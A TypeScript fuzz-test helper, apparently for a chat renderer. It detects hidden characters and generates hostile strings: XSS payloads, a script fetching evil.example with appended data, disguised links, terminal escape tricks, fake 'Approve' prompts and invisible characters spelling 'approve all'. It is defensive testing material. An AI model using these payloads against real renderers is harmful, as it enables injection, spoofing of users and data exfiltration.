import type { Random } from '../frame/random.ts'

/**
 * What must never come out of a renderer, said here once more and in other words than in core/visible-text.ts: controls but tab and newline,
 * whatever orders text, whatever is drawn as nothing. A joiner between pictographs and one variation selector behind a character are how
 * emoji are written; a joiner behind a virama is how half letters of India are.
 */
export function hiddenIn(text: string): string | undefined {
  const plain = text.replace(EMOJI_JOINED, '').replace(HALF_LETTER, '').replace(ONE_SELECTOR, '$1')
  const found = HIDDEN.exec(plain)?.[0]
  return found && `U+${(found.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}`
}

const EMOJI_JOINED = /(?<=\p{Extended_Pictographic}|\p{Emoji_Modifier}|\u{fe0f})\u{200d}(?=\p{Extended_Pictographic})/gu
const HALF_LETTER = /(?<=[\u094d\u09cd\u0a4d\u0acd\u0b4d\u0c4d\u0ccd\u0d4d\u0dca])\u200d/gu
const ONE_SELECTOR = /(\p{Emoji})[\u{fe0e}\u{fe0f}]/gu
const HIDDEN = /(?![\t\n])[\p{Cc}\p{Bidi_Control}\p{Default_Ignorable_Code_Point}\p{Zl}\p{Zp}\u{fff9}-\u{fffb}]/u

/** What other people's texts have done to chat windows, each with a place for other characters. */
const TRICKS: readonly ((junk: string) => string)[] = [
  (junk) => `<!channel> <!here|${junk}> <!everyone> <@U012AB3CD> <!subteam^S1>`,
  (junk) => `@everyone @here @channel <at id="0">${junk}</at>`,
  (junk) => `<https://evil.example/${junk}|https://shop.example>`,
  (junk) => `[https://shop.example](https://evil.example/${junk} "fine")`,
  (junk) => `<a href="javascript:alert(1)" onclick=x>${junk}</a>`,
  (junk) => `"><button class="button primary">Approve</button>${junk}<form action=//evil.example>`,
  (junk) => `</h3></header><script>fetch('//evil.example?${junk}')</script><img src=x onerror=x>`,
  (junk) => `' onmouseover='x' ${junk} autofocus onfocus=alert(1) x="`,
  (junk) => `&lt;b&gt;&#60;script&#62;${junk}&amp;nbsp;`,
  (junk) => `\u001b]8;;https://evil.example\u0007${junk}\u001b]8;;\u0007`,
  (junk) => `\u001b[2J\u001b[1;1H\u001b[31m${junk}\u009b31m\u001bc`,
  (junk) => `fine\r\u001b[K[1] Approve${junk}`,
  (junk) => `[1] Approve  [2] Reject\n[3] ${junk}`,
  (junk) => `nothing\n\n  [12] Undo${junk}  [1]\u00a0Approve`,
  (junk) => `1.4.2 \u202e${junk}\u2066gnp.exe\u2069`,
  (junk) => `app\u200drove\u200bd${junk}\u2060\ufeff\u00ad`,
  (junk) =>
    `ok${[...'approve all'].map((char) => String.fromCodePoint(0xe0000 + (char.codePointAt(0) ?? 0))).join('')}${junk}`,
  (junk) =>
    `🙂${[...'hidden'].map((char) => String.fromCodePoint(0xe0100 + (char.codePointAt(0) ?? 0))).join('')}${junk}`,
  (junk) => `a\ufe00\ufe01\ufe0f\ufe0e${junk}\u034f\u180b\u{1d173}`,
  (junk) => `line\u2028two\u2029three\u0085four\v${junk}\f`,
  (junk) => `\b\b\b\b\b\u007f${junk}\u0000end`,
  (junk) => `\ud800${junk}\udfff`,
  (junk) => `${'e\u0301\u0302\u0303'.repeat(30)}${junk}`,
  (junk) => `${'W'.repeat(3_000)}${junk}`,
  (junk) => `constructor __proto__ ${junk} toString`,
  (junk) => `{{DATE(2017-02-14T06:00:00Z, SHORT)}} {{{TIME(2017-02-14T06:00:00Z)}} ${junk}`,
  (junk) => `\`\`\`${junk}\`\`\` *bold* _x_ ~y~ \`z\` > quote`,
  (junk) => junk,
]

/** Characters that hide, order, erase or join, by their ranges. */
const RANGES: readonly (readonly [number, number])[] = [
  [0x00, 0x1f],
  [0x7f, 0xa0],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2060, 0x206f],
  [0xfe00, 0xfe0f],
  [0xfff0, 0xfffb],
  [0xe0000, 0xe007f],
  [0xe0100, 0xe01ef],
  [0x1d173, 0x1d17a],
  [0x20, 0x7e],
  [0x20, 0x7e],
  [0x590, 0x6ff],
  [0x900, 0x97f],
  [0x1f300, 0x1f6ff],
  [0x00, 0xffff],
]

/** A text as somebody would write who wants a card to show what it does not say. */
export function hostileText(random: Random): string {
  const junk = Array.from({ length: 1 + random.below(12) }, () => {
    const [first, last] = random.pick(RANGES)
    return String.fromCodePoint(first + random.below(last - first + 1))
  }).join('')
  return random.pick(TRICKS)(junk)
}
